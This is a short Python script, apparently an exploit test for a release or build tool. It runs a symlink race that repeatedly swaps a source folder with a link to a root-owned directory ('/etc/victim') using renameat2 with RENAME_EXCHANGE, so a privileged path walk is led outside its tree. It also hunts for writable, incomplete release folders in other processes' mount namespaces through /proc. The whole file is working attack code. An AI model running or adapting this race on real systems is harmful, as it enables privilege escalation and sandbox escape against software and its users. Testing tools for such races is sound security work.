"""Swaps a folder of the source for a link to a folder of root's, over and over: who walks by path is led there.

The folder `swapped` has the same names as the folder of root's. A walk that is in it goes on in the other one.
"""

import contextlib
import ctypes
import os
from collections.abc import Iterator
from pathlib import Path

from common import APP, SECONDS, foreign, processes, rounds

# Who is not in a sandbox waits for the next build.
LASTS = 600 if os.access(Path.cwd(), os.W_OK) else SECONDS

VICTIM = "/etc/victim"
RENAME_EXCHANGE = 2
AT_FDCWD = -100
LIBC = ctypes.CDLL(None, use_errno=True)


def under_way() -> Iterator[Path]:
    """The sources of releases that are not complete, in every mount namespace that can be seen and written to."""
    roots = [Path("/"), *(process / "root" for process in processes() if foreign(process))]
    for root in roots:
        with contextlib.suppress(OSError):
            for release in (root / str(APP).lstrip("/") / "releases").iterdir():
                if not (release / "release.json").exists() and not os.statvfs(release).f_flag & os.ST_RDONLY:
                    yield release / "src"


def is_ours(path: Path) -> bool:
    """Whether somebody has given it to us, so that we may rename it."""
    with contextlib.suppress(OSError):
        return path.lstat().st_uid == os.getuid()
    return False


def swap(source: Path, times: int) -> None:
    """Exchange the folder and the link. The first time is early in a walk through the folder, which then is in it."""
    folder, link = source / "swapped", source / "swapping"
    if not any(is_ours(folder / str(number)) for number in range(0, 1000, 100)):
        return
    with contextlib.suppress(FileExistsError):
        link.symlink_to(VICTIM)
    for _ in range(times):
        LIBC.renameat2(AT_FDCWD, os.fsencode(folder), AT_FDCWD, os.fsencode(link), RENAME_EXCHANGE)


for _ in rounds(LASTS):
    with contextlib.suppress(OSError):
        swap(Path.cwd(), 100)
    for found in list(under_way()):
        while found.parent.exists() and not (found.parent / "release.json").exists():
            with contextlib.suppress(OSError):
                swap(found, 1001)
